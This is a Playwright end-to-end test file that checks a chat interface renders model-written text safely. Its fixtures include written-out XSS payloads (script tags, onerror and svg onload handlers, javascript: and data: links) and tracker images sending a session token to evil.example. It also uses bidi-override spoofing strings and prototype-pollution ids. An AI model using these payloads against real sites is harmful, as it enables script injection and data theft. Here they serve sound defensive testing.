import { expect, test, type Page } from "@playwright/test";
import { showHiddenCharacters } from "../src/protocol/hidden-characters";
import { startHost, type TestHost } from "./host";
import { mulberry32 } from "../src/testing/seeded-random";

let host: TestHost;

test.beforeAll(async () => {
  host = await startHost();
});

test.afterAll(async () => {
  await host.dispose();
});

const EVIL = "https://evil.example";

/** Model-written text that would run script or leak data if it were rendered as HTML or loaded automatically. */
const CORPUS = [
  `<script>window.__pwned = "script"; alert("script")</script>`,
  `<img src="x" onerror="window.__pwned = 'img'; alert('img')">`,
  `[click me](javascript:window.__pwned='link';alert('link'))`,
  `<a href="javascript:alert('anchor')">anchor</a>`,
  `<iframe srcdoc="<script>parent.__pwned='iframe';parent.alert('iframe')</script>"></iframe>`,
  `[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+)`,
  `![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `<svg onload="window.__pwned = 'svg'; alert('svg')"></svg>`,
  `![tracker](${EVIL}/pixel.png?session=secret-token)`,
  `<img src="${EVIL}/raw.png?leak=1">`,
];

interface Watch {
  dialogs: string[];
  foreign: string[];
}

async function watch(page: Page): Promise<Watch> {
  const seen: Watch = { dialogs: [], foreign: [] };
  const origin = new URL(host.url).origin;
  page.on("dialog", (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    const url = request.url();
    if (url.startsWith("data:") || url.startsWith("blob:")) {
      seen.foreign.push(url.slice(0, 60));
      return;
    }
    if (new URL(url).origin !== origin) seen.foreign.push(url);
  });
  await page.route(`${EVIL}/**`, (route) => route.abort());
  return seen;
}

async function openNewSession(page: Page): Promise<string> {
  const created = await page.request.post(`${host.url}/api/sessions`, { data: {} });
  expect(created.status()).toBe(201);
  const { session } = (await created.json()) as { session: { id: string } };
  const response = await page.goto(`${host.url}/#session=${session.id}`);
  const csp = response!.headers()["content-security-policy"] ?? "";
  const scriptSources = csp.split(";").map((part) => part.trim()).find((part) => part.startsWith("script-src")) ?? "";
  expect(scriptSources).toBe("script-src 'self'");
  await expect(page.getByRole("textbox", { name: "Message" })).toBeVisible();
  return session.id;
}

async function postMessage(page: Page, sessionId: string, text: string) {
  const response = await page.request.post(`${host.url}/api/sessions/${sessionId}/messages`, { data: { text } });
  expect(response.status()).toBe(202);
}

/** What the host stored after the user's message: tool rows as status and result, replies as text. */
async function repliesOf(page: Page, sessionId: string) {
  const response = await page.request.get(`${host.url}/api/sessions/${sessionId}`);
  const { messages } = (await response.json()) as { messages: { role: string; text?: string; tool?: { status: string; result?: string } }[] };
  return messages.filter((message) => message.role !== "user").map((message) => (message.tool ? { tool: message.tool.status, result: message.tool.result } : { text: message.text }));
}

async function expectNothingRan(page: Page, seen: Watch) {
  await page.waitForLoadState("networkidle");
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(seen.dialogs).toEqual([]);
  expect(seen.foreign).toEqual([]);
}

test("hostile markdown and HTML in a streamed assistant message render as text: no script runs and nothing loads from another host", async ({ page }) => {
  const seen = await watch(page);
  const sessionId = await openNewSession(page);
  await postMessage(page, sessionId, `/echo ${CORPUS.join("\n\n")}`);
  const transcript = page.getByRole("region", { name: "Messages" });
  await expect(transcript.getByText(`<svg onload="window.__pwned = 'svg'; alert('svg')"></svg>`).last()).toBeVisible();
  await expect(transcript.getByText("click me").last()).toBeVisible();
  await transcript.getByText("click me").last().click();
  await transcript.getByText("anchor", { exact: false }).last().click();
  await expect(transcript.locator("img, iframe, svg[onload], script:not([src])")).toHaveCount(0);
  await expect(transcript.locator('a[href^="javascript:"], a[href^="data:"]')).toHaveCount(0);
  await expectNothingRan(page, seen);
});

test("hostile text in question text, headers, option labels and descriptions is shown as text and answers as sent", async ({ page }) => {
  const seen = await watch(page);
  const sessionId = await openNewSession(page);
  const questions = CORPUS.map((payload, index) => ({
    id: `q${index}`,
    header: payload.slice(0, 100),
    question: `${index}: ${payload}`,
    options: [
      { label: payload.slice(0, 200), description: payload },
      { label: `plain ${index}`, description: `${payload} (second)` },
    ],
  }));
  await postMessage(page, sessionId, `/ask ${JSON.stringify({ questions })}`);
  for (const [index, payload] of CORPUS.entries()) {
    const panel = page.getByRole("region", { name: `${index}: ${payload}` });
    await expect(panel).toBeVisible();
    await expect(panel.getByRole("heading", { name: `${index}: ${payload}` })).toBeVisible();
    await expect(panel.getByRole("radio", { name: payload.slice(0, 200) })).toBeVisible();
    await expect(panel.locator("img, iframe, svg[onload], script:not([src])")).toHaveCount(0);
    await expect(panel.locator('a[href^="javascript:"], a[href^="data:"]')).toHaveCount(0);
    await expectNothingRan(page, seen);
    // A choice on the same spot within 300 ms of the last step's is taken for a double tap and ignored.
    await page.waitForTimeout(350);
    if (index < CORPUS.length - 1) await panel.getByRole("radio", { name: payload.slice(0, 200) }).click();
    else await panel.getByRole("radio", { name: `plain ${index}` }).click();
  }
  const expected = CORPUS.map((payload, index) => ({ id: `q${index}`, selected: [index < CORPUS.length - 1 ? payload.slice(0, 200) : `plain ${index}`] }));
  const posted = page.waitForRequest((request) => request.url().endsWith("/api/respond"));
  await page.getByRole("button", { name: "Submit" }).click();
  expect((await posted).postDataJSON()).toEqual({ type: "answer", rpcId: expect.any(String), sessionId, answers: expected });
  const answered = JSON.stringify({ answers: expected });
  await expect.poll(() => repliesOf(page, sessionId)).toEqual([{ tool: "ok", result: answered }, { text: `Answers: ${answered}` }]);

  // The reply renders as markdown: its backslash escapes go, its raw HTML shows as text, its image becomes a link that loads nothing.
  const transcript = page.getByRole("region", { name: "Messages" });
  await expect(transcript.getByRole("listitem").last()).toContainText(`Answers: {"answers":[{"id":"q0","selected":["${CORPUS[0]}"]}`);
  await transcript.getByRole("button", { name: /Ask question/ }).click();
  await expect(transcript.locator(".tool-row__answers dd")).toHaveText(expected.map((answer) => answer.selected[0]!));
  await expect(transcript.locator("img, iframe, svg[onload], script:not([src])")).toHaveCount(0);
  await expect(transcript.locator('a[href^="javascript:"], a[href^="data:"]')).toHaveCount(0);
  await expectNothingRan(page, seen);
});

test("a hostile plan in the plan-review card renders as text and can be approved", async ({ page }) => {
  const seen = await watch(page);
  const sessionId = await openNewSession(page);
  await postMessage(page, sessionId, `/plan # Plan\n\n${CORPUS.join("\n\n")}`);
  await expect(page.getByRole("button", { name: "Approve", exact: true })).toBeVisible();
  await expect(page.getByText(`<script>window.__pwned = "script"; alert("script")</script>`).first()).toBeVisible();
  await expect(page.locator("img, iframe, svg[onload]")).toHaveCount(0);
  await expectNothingRan(page, seen);
  await page.getByRole("button", { name: "Approve", exact: true }).click();
  await expect(page.getByText("Plan approved.")).toBeVisible();
  await expectNothingRan(page, seen);
});

/** Seeded so a failing run replays: `HOSTILE_SEED=<n> npx playwright test e2e/hostile-text.spec.ts`. */
const SEED = Number(process.env.HOSTILE_SEED ?? 11);

function shuffled<T>(items: readonly T[], random: () => number): T[] {
  const copy = [...items];
  for (let i = copy.length - 1; i > 0; i--) {
    const j = Math.floor(random() * (i + 1));
    [copy[i], copy[j]] = [copy[j]!, copy[i]!];
  }
  return copy;
}

const PROTOTYPE_IDS = ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "isPrototypeOf", "__defineGetter__", "propertyIsEnumerable"];
const HOSTILE_TEXT = [
  "\u202Eevorppa\u202C Approve",
  "Approve\u2067 \u2069(Recommended)",
  "\u2066Keep\u2069 \u200Fplanning\u200E",
  "\u061Cno \u202Aembedded\u202B text\u202C\u202D",
  "lone \uD800 high and lone \uDC00 low",
  "w".repeat(190) + "ord",
  "**not bold** _not em_ [link](javascript:alert(1)) `code` <b>raw</b>",
  "# not a heading | table | --- ![x](https://evil.example/x.png)",
  "constructor",
  "__proto__",
  "toString() hasOwnProperty",
];
const BIDI_CONTROL = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/u;

/** What the panel shows for model text: every bidi control as a visible marker. */
function shown(text: string): string {
  return text.replace(/[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/gu, (c) => `⟨U+${c.codePointAt(0)!.toString(16).toUpperCase().padStart(4, "0")}⟩`);
}

interface HostileQuestion {
  id: string;
  header: string;
  question: string;
  options: { label: string; description: string }[];
}

function hostileBatch(seed: number): HostileQuestion[] {
  const random = mulberry32(seed);
  const ids = shuffled(PROTOTYPE_IDS, random).slice(0, 6);
  return ids.map((id, index) => {
    const texts = shuffled(HOSTILE_TEXT, random);
    return {
      id,
      header: texts[0]!.slice(0, 100),
      question: `Q${index}: ${texts[1]!}`,
      options: texts.slice(2, 5).map((text, optionIndex) => ({ label: `${optionIndex}${text}`.slice(0, 200), description: texts[5 + optionIndex]! })),
    };
  });
}

function labelName(label: string): string {
  return shown(label.replace(/\s*\((?:recommended)\)\s*$/iu, "")).replace(/\s+/gu, " ").trim();
}

test("question ids named after Object.prototype members, bidi controls, lone surrogates, long words and markdown tricks answer exactly, survive a reload and reach the transcript", async ({ page }) => {
  const errors: string[] = [];
  page.on("pageerror", (error) => errors.push(error.message));
  const seen = await watch(page);
  const sessionId = await openNewSession(page);
  const questions = hostileBatch(SEED);
  const customs = questions.map((question, index) => `${question.id} ${HOSTILE_TEXT[index % 4]!} [x](javascript:alert(1)) ${"z".repeat(120)}`);
  await postMessage(page, sessionId, `/ask ${JSON.stringify({ questions })}`);

  const regionOf = (index: number) => page.getByRole("region", { name: new RegExp(`^Q${index}: `) });
  const answerStep = async (index: number) => {
    const question = questions[index]!;
    const panel = regionOf(index);
    await expect(panel).toBeVisible();
    await expect(panel.getByRole("heading", { level: 2 })).toHaveText(shown(question.question).replace(/\s+/gu, " "), { useInnerText: true });
    const text = await panel.evaluate((element: HTMLElement) => element.textContent ?? "");
    expect(BIDI_CONTROL.test(text), `raw bidi control in question ${index}`).toBe(false);
    expect(text).toContain(shown(question.header));
    for (const option of question.options) await expect(panel.getByRole("radio", { name: labelName(option.label), exact: true })).toBeVisible();
    await expect(panel.locator(".question-option__label > bdi[dir='auto']")).toHaveCount(question.options.length);
    if (index % 2 === 0) {
      await panel.getByRole("radio", { name: labelName(question.options[index % 3]!.label), exact: true }).click();
    } else {
      await panel.getByRole("textbox", { name: "Type your answer" }).fill(customs[index]!);
      if (index < questions.length - 1) await panel.getByRole("button", { name: "Next", exact: true }).click();
    }
  };

  for (let index = 0; index < 3; index++) await answerStep(index);
  await page.reload();
  await expect(regionOf(3)).toBeVisible();
  await page.getByRole("button", { name: "Previous question" }).click();
  await expect(regionOf(2).getByRole("radio", { name: labelName(questions[2]!.options[2]!.label), exact: true })).toBeChecked();
  await page.getByRole("button", { name: "Previous question" }).click();
  await expect(regionOf(1).getByRole("textbox", { name: "Type your answer" })).toHaveValue(customs[1]!);
  await page.getByRole("button", { name: "Next question" }).click();
  await page.getByRole("button", { name: "Next question" }).click();
  for (let index = 3; index < questions.length; index++) await answerStep(index);

  const expected = questions.map((question, index) =>
    index % 2 === 0 ? { id: question.id, selected: [question.options[index % 3]!.label] } : { id: question.id, selected: [], custom: customs[index]! },
  );
  const posted = page.waitForRequest((request) => request.url().endsWith("/api/respond"));
  await page.getByRole("button", { name: "Submit" }).click();
  expect((await posted).postDataJSON()).toEqual({ type: "answer", rpcId: expect.any(String), sessionId, answers: expected });
  await expect(page.getByRole("textbox", { name: "Message" })).toBeVisible();

  await expect.poll(() => repliesOf(page, sessionId)).toEqual([{ tool: "ok", result: JSON.stringify({ answers: expected }) }, { text: `Answers: ${JSON.stringify({ answers: expected })}` }]);

  const transcript = page.getByRole("region", { name: "Messages" });
  // The host has the reply; wait until this page shows it too, so no row moves under the click that opens the tool row.
  await expect(transcript.getByRole("listitem").last()).toContainText("Answers: {");
  const toolRow = transcript.getByRole("button", { name: /Ask question/ });
  await toolRow.click();
  await expect(toolRow).toHaveAttribute("aria-expanded", "true");
  // The transcript shows bidi and other invisible characters of what was typed as ⟨U+XXXX⟩ markers.
  for (const index of [1, 3, 5]) await expect(transcript.getByText(showHiddenCharacters(customs[index]!), { exact: true })).toBeVisible();
  await expectNothingRan(page, seen);
  expect(errors).toEqual([]);
});

test("hostile message text shows in the transcript as sent, with no page error", async ({ page }) => {
  const errors: string[] = [];
  page.on("pageerror", (error) => errors.push(error.message));
  const seen = await watch(page);
  const sessionId = await openNewSession(page);
  const random = mulberry32(SEED);
  const text = shuffled(HOSTILE_TEXT.filter((item) => !item.includes("\uD800")), random).join(" · ");
  await page.getByRole("textbox", { name: "Message" }).fill(`/echo ${text}`);
  await page.getByRole("button", { name: "Send" }).click();
  const transcript = page.getByRole("region", { name: "Messages" });
  await expect(transcript.getByText(`/echo ${text}`, { exact: true })).toBeVisible();
  const response = await page.request.get(`${host.url}/api/sessions/${sessionId}`);
  const { messages } = (await response.json()) as { messages: { role: string; text?: string }[] };
  expect(messages.filter((message) => message.role === "user").map((message) => message.text)).toEqual([`/echo ${text}`]);

  // The model's reply is outside text: a bidi control in it, in prose or in code, shows as a marker and reorders nothing.
  await page.getByRole("textbox", { name: "Message" }).fill("/echo open report\u202Etxt.exe\u202C now, `co\u202Ede`");
  await page.getByRole("button", { name: "Send" }).click();
  await expect(transcript.locator(".message--assistant .markdown p").last()).toHaveText("open report⟨U+202E⟩txt.exe⟨U+202C⟩ now, co⟨U+202E⟩de");
  await expect(transcript.locator(".message--user .message__text").last()).toHaveText("/echo open report\u202Etxt.exe\u202C now, `co\u202Ede`");
  await expectNothingRan(page, seen);
  expect(errors).toEqual([]);
});

test("an ACP agent's long option names wrap inside the approval card at 360 px: no part of a button is cut off", async ({ page }) => {
  await page.setViewportSize({ width: 360, height: 740 });
  const long = `Allow_once_${"and_push_to_main_".repeat(10)}end`;
  const approval = {
    server: "Qwen Code",
    tool: "Edit a.ts",
    arguments: "{}",
    choices: [long, "Reject"],
    choiceKinds: ["allow_once", "reject_once"],
    toolCall: { toolCallId: "c1", title: "Edit a.ts", kind: "edit", locations: [{ path: `/srv/${"deep/".repeat(30)}a.ts` }] },
  };
  await page.goto(`${host.url}/demo?width=phone&edit=${encodeURIComponent(JSON.stringify({ questions: [], approval }))}#approval-acp`);
  const frame = page.frameLocator("iframe.demo__frame");
  const button = frame.getByRole("button", { name: long });
  await expect(button).toBeVisible();
  const card = frame.locator(".approval-card");
  const [cardBox, buttonBox, locationsBox] = [await card.boundingBox(), await button.boundingBox(), await frame.locator(".approval-card__locations").boundingBox()];
  expect([buttonBox!.x >= cardBox!.x, buttonBox!.x + buttonBox!.width <= cardBox!.x + cardBox!.width + 0.5, locationsBox!.x + locationsBox!.width <= cardBox!.x + cardBox!.width + 0.5]).toEqual([true, true, true]);
  expect(await button.evaluate((element) => element.scrollWidth <= element.clientWidth)).toBe(true);
});
